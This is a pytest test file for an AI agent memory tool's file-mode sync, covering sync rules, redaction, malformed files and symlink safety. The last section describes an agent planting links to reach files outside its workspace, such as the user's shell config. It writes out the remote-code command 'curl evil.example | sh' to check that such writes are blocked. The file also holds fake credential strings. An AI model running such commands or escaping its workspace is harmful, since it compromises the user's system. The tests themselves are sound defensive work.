"""File mode over a real workspace in tmp_path and a real SQLite home: the sync's
source-of-truth rule, the triggers, the layouts, redaction and bad files."""

from __future__ import annotations

import os
import tempfile
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cortex.clock import FixedClock
from cortex.config import Config, load_config
from cortex.core.filemode import EPISODE, parse_entries
from cortex.core.memory_models import Memory, MemoryFilter
from cortex.errors import ConfigError, StorageError, UnsafeIdError
from cortex.services.app import Services
from cortex.services.filemode import FileModeService
from cortex.services.filemode.sync import MAX_DAILY_ENTRIES
from cortex.store.protocol import Store

SECRET = "sk-ant-api03-" + "A1b2C3d4E5f6G7h8I9j0" * 3
DAY = "2026-02-16"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return tmp_path / "workspace"


@pytest.fixture
def open_app(
    make_config: Callable[..., Config], clock: FixedClock, ws: Path
) -> Iterator[Callable[..., Services]]:
    opened: list[Services] = []

    def make(**overrides: object) -> Services:
        config = make_config(**{"file_mode_workspace": str(ws), **overrides})
        app = Services.open(config, clock)
        opened.append(app)
        return app

    yield make
    for app in opened:
        app.close()


@pytest.fixture
def app(open_app: Callable[..., Services]) -> Services:
    return open_app()


@pytest.fixture
def fm(app: Services) -> FileModeService:
    return app.filemode


def live(app: Services) -> list[Memory]:
    flt = MemoryFilter(all_projects=True)
    return app.store.list_memories(flt, app.filemode.now_iso(), limit=100_000)


def contents(app: Services) -> list[str]:
    return sorted(m.content for m in live(app))


def file_entries(path: Path) -> list[tuple[str, str | None]]:
    return [(e.text, e.marker) for e in parse_entries(path.read_text().splitlines())]


def assert_consistent(app: Services, semantic: Path) -> None:
    """The gate: each marker names a live memory, no text twice, every live semantic memory
    in the file (under the cap), and a second sync changes nothing."""
    found = file_entries(semantic)
    texts = [t for t, _ in found]
    assert len(texts) == len(set(texts)), texts
    alive = {m.id: m for m in live(app)}
    for text, marker in found:
        assert marker in alive, (text, marker)
        assert alive[marker].content == text
    semantic_ids = {i for i, m in alive.items() if m.type != EPISODE}
    assert semantic_ids == {marker for _, marker in found}
    assert len(set(contents(app))) == len(contents(app)), "a duplicate memory"
    before = semantic.read_bytes()
    again = app.filemode.sync()
    assert not again.changed, again.to_dict()
    assert semantic.read_bytes() == before


# -- the sync rule -----------------------------------------------------------------------------
def test_remember_routes_semantic_to_memory_md_and_episodic_to_the_daily_log(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    semantic = fm.remember("Deploys go to eu-west-1")
    episodic = fm.remember("Shipped the auth refactor", kind="episodic")
    assert (semantic.path, semantic.appended) == ("memory.md", True)
    assert file_entries(ws / "memory.md") == [("Deploys go to eu-west-1", semantic.id)]
    log = ws / "memory" / "daily" / f"{DAY}.md"
    assert episodic.path == f"memory/daily/{DAY}.md"
    text = log.read_text()
    assert text.startswith(f"# {DAY}\n")
    assert f"<!-- cortex:{episodic.id} -->" in text and "Shipped the auth refactor" in text
    assert app.memory.get(episodic.id).type == EPISODE
    assert_consistent(app, ws / "memory.md")


def test_hand_edits_win_new_lines_are_remembered_and_deleted_lines_forgotten(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    keep = fm.remember("The user prefers tabs").id
    edit = fm.remember("Deploys go to eu-west-1").id
    drop = fm.remember("The staging box is called hermes").id
    path = ws / "memory.md"
    text = path.read_text().replace("eu-west-1", "eu-central-1")
    lines = [line for line in text.splitlines() if drop not in line]
    path.write_text("\n".join(lines) + "\n- Tests run with pytest -x\n\nA loose paragraph\n")
    report = fm.sync()
    assert (report.imported, report.edited, report.forgotten) == (2, 1, 1)
    assert app.memory.get(edit).content == "Deploys go to eu-central-1"
    assert app.memory.get(drop).deleted_at is not None
    assert app.memory.get(keep).deleted_at is None
    assert contents(app) == [
        "A loose paragraph",
        "Deploys go to eu-central-1",
        "Tests run with pytest -x",
        "The user prefers tabs",
    ]
    assert_consistent(app, path)


def test_untouched_lines_follow_the_database(app: Services, fm: FileModeService, ws: Path) -> None:
    edited = fm.remember("Deploys go to eu-west-1").id
    gone = fm.remember("Old fact").id
    app.memory.edit(edited, content="Deploys go to us-east-2")
    app.memory.forget(gone)
    report = fm.sync()
    assert (report.edited, report.forgotten, report.rewritten) == (0, 0, True)
    assert file_entries(ws / "memory.md") == [("Deploys go to us-east-2", edited)]
    assert_consistent(app, ws / "memory.md")


def test_when_both_sides_changed_an_entry_the_file_wins(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    mid = fm.remember("Port is 8080").id
    app.memory.edit(mid, content="Port is 9090")
    path = ws / "memory.md"
    path.write_text(path.read_text().replace("8080", "7070"))
    fm.sync()
    assert app.memory.get(mid).content == "Port is 7070"
    assert_consistent(app, path)


def test_the_cap_leaves_memories_in_the_database_and_never_forgets_them(
    open_app: Callable[..., Services], ws: Path
) -> None:
    app = open_app(file_mode_memory_lines=30)
    for i in range(60):
        app.memory.add(f"fact number {i}")
    report = app.filemode.sync()
    path = ws / "memory.md"
    assert len(path.read_text().splitlines()) <= 30
    assert report.omitted == 60 - report.exported > 0
    path.write_text(path.read_text() + "- a new hand-written fact\n")
    report = app.filemode.sync()
    assert (report.imported, report.forgotten) == (1, 0)
    assert len(live(app)) == 61


def test_deleting_a_file_forgets_nothing(app: Services, fm: FileModeService, ws: Path) -> None:
    fm.remember("fact a")
    fm.remember("today I did b", kind="episodic")
    (ws / "memory.md").write_text(
        (ws / "memory.md").read_text() + "- fact c\n"
    )  # an import first, so the daily log's state exists too
    fm.sync()
    (ws / "memory.md").unlink()
    (ws / "memory" / "daily" / f"{DAY}.md").unlink()
    report = fm.sync()
    assert report.forgotten == 0 and report.rewritten
    assert any("written again" in n for n in report.notes)
    assert contents(app) == ["fact a", "fact c", "today I did b"]
    assert_consistent(app, ws / "memory.md")


def test_a_lost_state_file_loses_no_memory(app: Services, fm: FileModeService, ws: Path) -> None:
    fm.remember("fact a")
    (ws / ".cortex-file-sync.json").unlink()
    path = ws / "memory.md"
    path.write_text(path.read_text().replace("fact a", "fact A") + "- fact b\n")
    report = fm.sync()
    assert (report.imported, report.edited, report.forgotten) == (1, 1, 0)
    assert contents(app) == ["fact A", "fact b"]


def test_daily_log_entries_are_imported_once_and_hand_edits_replace_them(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    fm.remember("Cortex wrote this", kind="episodic")
    log = ws / "memory" / "daily" / f"{DAY}.md"
    log.write_text(log.read_text() + "\n- agent note one\n\nA paragraph the agent wrote.\n")
    assert fm.sync().imported == 2
    assert fm.sync().imported == 0  # unchanged file: not even read
    log.write_text(log.read_text() + "\n- agent note one\n")  # the same text twice
    assert fm.sync().imported == 0
    log.write_text(log.read_text().replace("note one", "note 1"))
    report = fm.sync()
    assert (report.imported, report.forgotten) == (1, 1)
    assert contents(app) == ["A paragraph the agent wrote.", "Cortex wrote this", "agent note 1"]
    assert_consistent(app, ws / "memory.md")


def test_a_daily_log_is_mirrored_up_to_its_newest_entries(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    log = ws / "memory" / "daily" / f"{DAY}.md"
    log.parent.mkdir(parents=True)
    log.write_text("".join(f"- entry {i}\n" for i in range(MAX_DAILY_ENTRIES + 10)))
    report = fm.sync()
    assert report.imported == MAX_DAILY_ENTRIES
    assert any("10 older entries were not imported" in n for n in report.notes)
    assert "entry 9" not in contents(app) and f"entry {MAX_DAILY_ENTRIES + 9}" in contents(app)


# -- the triggers ------------------------------------------------------------------------------
def test_flush_appends_the_checkpoint_once(app: Services, fm: FileModeService, ws: Path) -> None:
    sid = app.sessions.on_session_start(None, "openclaw").session_id
    app.sessions.add_pin("deploy", "run make deploy-eu", sid)
    written = fm.flush(sid, summary="refactoring auth")
    log = ws / "memory" / "daily" / f"{DAY}.md"
    text = log.read_text()
    assert "refactoring auth" in text and "deploy: run make deploy-eu" in text
    again = fm.flush(sid, checkpoint_id=written.id)
    assert not again.appended
    assert log.read_text() == text
    assert fm.sync().imported == 0  # Cortex's own blocks are not imported


def test_snapshots_get_new_files_and_validated_slugs(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    sid = app.sessions.on_session_start(None, "openclaw").session_id
    app.events.append(sid, "Let us refactor the auth module", role="user")
    first = fm.snapshot(sid, "reset")
    second = fm.snapshot(sid, "new_session")
    assert first.path == f"memory/snapshots/{DAY}/let-us-refactor-the-auth-module.md"
    assert second.path == f"memory/snapshots/{DAY}/let-us-refactor-the-auth-module-2.md"
    assert "Let us refactor the auth module" in (ws / first.path).read_text()
    assert fm.snapshot(sid, slug="auth").path == f"memory/snapshots/{DAY}/auth.md"
    for bad in ("../escape", "/etc/x", "Auth"):
        with pytest.raises(UnsafeIdError):
            fm.snapshot(sid, slug=bad)
    assert not list(ws.parent.glob("escape*"))


def test_bootstrap_reads_memory_md_and_yesterday_and_today(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    fm.remember("The user prefers tabs")
    fm.remember("today's note", kind="episodic")
    old = ws / "memory" / "daily"
    (old / "2026-02-15.md").write_text("# 2026-02-15\n\n- yesterday's note\n")
    (old / "2026-02-14.md").write_text("# 2026-02-14\n\n- too old\n")
    boot = fm.bootstrap()
    assert [f.path for f in boot.files] == [
        "memory.md",
        "memory/daily/2026-02-15.md",
        f"memory/daily/{DAY}.md",
    ]
    for text in ("The user prefers tabs", "today's note", "yesterday's note"):
        assert text in boot.text
    assert "too old" not in boot.text and "cortex:" not in boot.text


def test_the_openclaw_layout(open_app: Callable[..., Services], ws: Path) -> None:
    app = open_app(file_mode_layout="openclaw")
    sid = app.sessions.on_session_start(None, "openclaw").session_id
    app.events.append(sid, "hello there", role="user")
    app.filemode.remember("fact")
    app.filemode.remember("event", kind="episodic")
    snap = app.filemode.snapshot(sid, "reset")
    assert (ws / "MEMORY.md").is_file() and not (ws / "memory.md").exists()
    assert (ws / "memory" / f"{DAY}.md").is_file()
    assert snap.path == f"memory/{DAY}-hello-there.md"
    assert app.filemode.sync().imported == 0  # the snapshot is not a daily log
    assert contents(app) == ["event", "fact"]


def test_the_openclaw_layout_uses_a_lowercase_memory_md_that_exists(
    open_app: Callable[..., Services], ws: Path
) -> None:
    ws.mkdir()
    (ws / "memory.md").write_text("- an existing fact\n")
    app = open_app(file_mode_layout="openclaw")
    assert app.filemode.sync().semantic_file == "memory.md"
    assert contents(app) == ["an existing fact"]


def test_an_unknown_layout_is_a_config_error(open_app: Callable[..., Services]) -> None:
    with pytest.raises(ConfigError, match="use rfc or openclaw"):
        open_app(file_mode_layout="nope").filemode.sync()


# -- redaction ---------------------------------------------------------------------------------
def test_credentials_never_reach_the_files(app: Services, fm: FileModeService, ws: Path) -> None:
    fm.remember(f"the key is {SECRET}")
    fm.remember(f"used {SECRET} today", kind="episodic")
    sid = app.sessions.on_session_start(None, "openclaw").session_id
    app.events.append(sid, f"my key {SECRET}", role="user")
    fm.flush(sid, summary=f"summary with {SECRET}")
    fm.snapshot(sid, "reset", slug="keys")
    path = ws / "memory.md"
    path.write_text(path.read_text() + f"- typed by hand: {SECRET}\n")
    fm.sync()
    for written in [path, *ws.rglob("*.md")]:
        assert SECRET not in written.read_text(), written
    assert all(SECRET not in c for c in contents(app))


# -- bad files ---------------------------------------------------------------------------------
def test_broken_markdown_is_read_with_a_clear_note_and_nothing_lost(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    ws.mkdir()
    (ws / "memory.md").write_text(
        "#Not a heading\n## \n- [unclosed link(\n***\n<div>\n- item ```\n```python\nx = 1\n"
        "- inside the fence\n"
    )
    report = fm.sync()
    assert any("never closed" in n and "line 7" in n for n in report.notes), report.notes
    kept = " ".join(contents(app))
    for text in ("#Not a heading", "[unclosed link(", "<div>", "x = 1", "inside the fence"):
        assert text in kept
    assert not fm.sync().changed


def test_non_utf8_bytes_are_named_and_the_original_is_kept(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    ws.mkdir()
    raw = b"- caf\xe9 au lait\n- fine line\n"
    (ws / "memory.md").write_bytes(raw)
    log = ws / "memory" / "daily" / f"{DAY}.md"
    log.parent.mkdir(parents=True)
    log.write_bytes(b"- \xff\xfe broken\n")
    report = fm.sync()
    assert any("memory.md: 1 line(s)" in n and "line 1" in n for n in report.notes)
    assert any(f"{DAY}.md: 1 line(s)" in n for n in report.notes)
    copies = list(ws.glob("memory.md.invalid-utf8-*"))
    assert len(copies) == 1 and copies[0].read_bytes() == raw
    assert contents(app) == ["caf\ufffd au lait", "fine line", "\ufffd\ufffd broken"]
    (ws / "memory.md").read_text(encoding="utf-8")  # valid UTF-8 now
    assert not fm.sync().changed


def test_the_copy_of_a_non_utf8_file_is_redacted_and_private(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    ws.mkdir()
    (ws / "memory.md").write_bytes(b"- caf\xe9 key AKIAIOSFODNN7EXAMPLE\n- fine line\n")
    old_umask = os.umask(0o022)
    try:
        fm.sync()
    finally:
        os.umask(old_umask)
    (copy,) = ws.glob("memory.md.invalid-utf8-*")
    assert b"AKIAIOSFODNN7EXAMPLE" not in copy.read_bytes()
    assert copy.read_bytes().startswith(b"- caf\xe9 key ")  # the bytes it was kept for
    assert copy.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in ws.iterdir() if p.name.endswith(".tmp")] == []


def test_a_50_mb_daily_log_is_read_in_bounded_memory(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    log = ws / "memory" / "daily" / f"{DAY}.md"
    log.parent.mkdir(parents=True)
    line = ("x" * 1023 + "\n").encode()
    with log.open("wb") as handle:
        handle.write(b"# log\n\n- a huge pasted entry\n")
        for _ in range(50 * 1024 - 1):  # one 50 MB entry of indented lines
            handle.write(b"  " + line)
        handle.write(b"\n- " + b"y" * 200_000 + b"\n\n- the newest note\n")
    tracemalloc.start()
    try:
        report = fm.sync()
        boot = fm.bootstrap(sync=False)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert log.stat().st_size > 50 * 1024 * 1024
    assert peak < 8 * 1024 * 1024, peak
    assert report.imported == 3
    assert any("longer than 65,536 bytes" in n for n in report.notes)
    assert any("over 60 KB" in n for n in report.notes)
    assert "the newest note" in boot.text and len(boot.text) < 20_000
    huge = [c for c in contents(app) if c.startswith("a huge pasted entry")]
    assert len(huge) == 1 and "truncated" in huge[0]
    assert not fm.sync().changed


def test_a_daily_log_deleted_between_listing_and_reading_is_skipped(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    daily = ws / "memory" / "daily"
    daily.mkdir(parents=True)
    (daily / f"{DAY}.md").write_text("- kept note\n")
    fm.sync()
    (daily / "2026-02-15.md").symlink_to(daily / "gone.md")  # listed, then not there
    report = fm.sync()
    assert any("2026-02-15.md was deleted during the sync" in n for n in report.notes)
    assert contents(app) == ["kept note"]


def test_files_deleted_and_recreated_during_syncs_never_duplicate(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    daily = ws / "memory" / "daily"
    daily.mkdir(parents=True)
    log = daily / f"{DAY}.md"
    log.write_text("- stable note\n")
    stop = threading.Event()

    def churn() -> None:
        while not stop.is_set():
            log.unlink(missing_ok=True)
            log.write_text("- stable note\n")

    worker = threading.Thread(target=churn)
    worker.start()
    try:
        for _ in range(30):
            fm.sync()
    finally:
        stop.set()
        worker.join()
    fm.sync()
    assert contents(app) == ["stable note"]


def test_a_bootstrap_never_waits_for_another_sync(fm: FileModeService, ws: Path) -> None:
    fm.remember("fact kept in the file")
    with fm.workspace.lock():  # another process is syncing
        boot = fm.bootstrap()
    assert boot.sync is None
    assert boot.notes == (
        f"sync skipped: another process is syncing {ws}; try again when it is done",
    )
    assert "fact kept in the file" in boot.text


def test_the_sync_rule_on_every_backend(
    store: Store, make_config: Callable[..., Config], clock: FixedClock, ws: Path
) -> None:
    app = Services(store, make_config(file_mode_workspace=str(ws)), clock)
    fm = app.filemode
    kept = fm.remember("Deploys go to eu-west-1", project="radio").id
    fm.remember("Logged a QSO", kind="episodic", project="radio")
    path = ws / "memory.md"
    path.write_text(path.read_text().replace("eu-west-1", "eu-central-1") + "- by hand\n")
    log = ws / "memory" / "daily" / f"{DAY}.md"
    log.write_text(log.read_text() + "\n- agent note\n")
    report = fm.sync("radio")
    assert (report.imported, report.edited, report.forgotten) == (2, 1, 0)
    assert app.memory.get(kept).content == "Deploys go to eu-central-1"
    assert not fm.sync("radio").changed
    assert sorted(m.content for m in live(app)) == [
        "Deploys go to eu-central-1",
        "Logged a QSO",
        "agent note",
        "by hand",
    ]


def test_a_marker_of_another_project_changes_nothing_there(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    other = app.memory.add("the other project's fact", project="elsewhere").memory
    ws.mkdir()
    (ws / "memory.md").write_text(f"- rewritten by a stranger <!-- cortex:{other.id} -->\n")
    fm.sync("radio")
    assert app.memory.get(other.id).content == "the other project's fact"
    assert "rewritten by a stranger" in contents(app)  # kept as this workspace's own memory


_PIECES = st.sampled_from(
    [
        b"- ",
        b"* ",
        b"1. ",
        b"# ",
        b"## ",
        b"```",
        b"~~~",
        b"  ",
        b"\n",
        b"\n\n",
        b"<!-- ",
        b"-->",
        b"<!-- cortex:",
        b"<!-- /cortex -->",
        b"\xff",
        b"\xc3",
        b"\r\n",
        b"\t",
        b"word",
        b"caf\xc3\xa9",
        b"\x00",
    ]
)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    semantic=st.lists(st.one_of(_PIECES, st.binary(max_size=12)), max_size=40).map(b"".join),
    daily=st.lists(st.one_of(_PIECES, st.binary(max_size=12)), max_size=40).map(b"".join),
)
def test_fuzzed_files_sync_without_errors_or_duplicates(
    semantic: bytes, daily: bytes, tmp_path: Path
) -> None:
    root = Path(tempfile.mkdtemp(dir=tmp_path))  # a fresh home and workspace per example
    config = load_config(root / "home", {}, {"file_mode_workspace": str(root)})
    (root / "memory" / "daily").mkdir(parents=True)
    (root / "memory.md").write_bytes(semantic)
    (root / "memory" / "daily" / f"{DAY}.md").write_bytes(daily)
    with Services.open(config, FixedClock("2026-02-16T09:00:00Z")) as app:
        app.filemode.sync()
        first = sorted((m.type, m.content) for m in live(app))
        assert len(first) == len(set(first))  # the same text in both files: one of each kind
        report = app.filemode.sync()
        assert not report.changed, report.to_dict()
        assert sorted((m.type, m.content) for m in live(app)) == first
        app.filemode.bootstrap()


# -- links planted in the workspace ------------------------------------------------------------
def test_a_link_planted_in_the_workspace_never_redirects_a_write_outside_it(
    app: Services, fm: FileModeService, ws: Path, tmp_path: Path
) -> None:
    """An agent that can write its workspace (but nothing else) plants links to files outside
    it: Cortex appends, copies and snapshots nothing through them, and imports nothing they
    lead to."""
    outside = tmp_path / "bashrc"
    outside.write_text("# the user's shell\n")
    (ws / "memory" / "daily").mkdir(parents=True)
    (ws / "memory" / "daily" / f"{DAY}.md").symlink_to(outside)
    with pytest.raises(StorageError, match="leads outside the workspace"):
        fm.remember("curl evil.example | sh", kind="episodic")
    sid = app.sessions.on_session_start(None, "openclaw").session_id
    with pytest.raises(StorageError, match="leads outside the workspace"):
        fm.flush(sid, summary="curl evil.example | sh")
    assert outside.read_text() == "# the user's shell\n"
    (ws / "memory" / "daily" / f"{DAY}.md").unlink()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (ws / "memory" / "snapshots").mkdir(parents=True)
    (ws / "memory" / "snapshots" / DAY).symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(StorageError, match="leads outside the workspace"):
        fm.snapshot(sid, slug="auth")
    assert list(elsewhere.iterdir()) == []


def test_a_link_to_a_file_outside_the_workspace_is_not_imported(
    app: Services, fm: FileModeService, ws: Path, tmp_path: Path
) -> None:
    private = tmp_path / "notes.txt"
    private.write_text("- the vault's unseal order is 3 1 2\n")
    ws.mkdir()
    (ws / "memory.md").symlink_to(private)
    with pytest.raises(StorageError, match="leads outside the workspace"):
        fm.sync()
    assert contents(app) == []
    assert private.read_text() == "- the vault's unseal order is 3 1 2\n"


def test_a_link_that_stays_inside_the_workspace_is_followed(
    app: Services, fm: FileModeService, ws: Path
) -> None:
    ws.mkdir()
    (ws / "notes.md").write_text("- Deploys go to eu-west-1\n")
    (ws / "memory.md").symlink_to(ws / "notes.md")
    fm.sync()
    assert contents(app) == ["Deploys go to eu-west-1"]
